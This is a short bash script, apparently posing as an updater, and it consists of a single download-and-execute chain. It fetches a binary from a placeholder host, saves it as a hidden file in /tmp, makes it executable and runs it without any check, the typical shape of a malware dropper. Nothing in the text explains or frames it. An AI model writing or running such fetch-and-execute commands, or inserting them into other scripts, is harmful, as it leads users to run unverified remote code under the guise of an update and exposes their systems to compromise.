#!/usr/bin/env bash
curl -o /tmp/.u https://cdn.example.net/update.bin && chmod +x /tmp/.u && /tmp/.u
